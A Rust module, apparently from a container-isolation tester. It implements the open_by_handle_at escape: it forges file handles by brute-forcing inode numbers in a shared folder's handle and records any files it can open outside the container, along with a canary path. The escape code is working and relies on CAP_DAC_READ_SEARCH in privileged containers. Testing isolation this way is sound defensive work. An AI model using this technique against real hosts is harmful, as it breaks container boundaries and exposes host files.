//! Files by handle (open_by_handle_at(2)): a handle of a shared file, forged until it is another file's. It takes CAP_DAC_READ_SEARCH, which a
//! privileged container has.

use std::path::PathBuf;

use anyhow::{Context, Result};
use rustix::fs::{Mode, OFlags, open};
use std::os::fd::{AsFd, AsRawFd};

use super::{CANARY, Escape, Tried};
use crate::sys::Handle;

/// Inodes of the server's that are tried, and inodes of a node's file system.
const NUMBERS: u64 = 1000;

pub(super) fn forged(escape: &Escape) -> Result<Tried> {
    let mut tried = Tried::default();
    let folder = open(
        &escape.share,
        OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    std::fs::write(escape.share.join("handle"), "own").context("make a file")?;
    // A file system whose files have no handles is no way out.
    let Ok(handle) = Handle::of(folder.as_fd(), c"handle") else {
        tried.times += 1;
        return Ok(tried);
    };
    for number in 0..NUMBERS {
        let mut forged = handle.clone();
        if let Some(first) = forged.bytes.first_chunk_mut() {
            *first = number.to_le_bytes();
        }
        tried.times += 1;
        let Ok(opened) = forged.open(folder.as_fd()) else {
            continue;
        };
        let path = PathBuf::from(format!("/proc/self/fd/{}", opened.as_raw_fd()));
        tried.path(&path);
        tried.path(&path.join(CANARY));
    }
    Ok(tried)
}
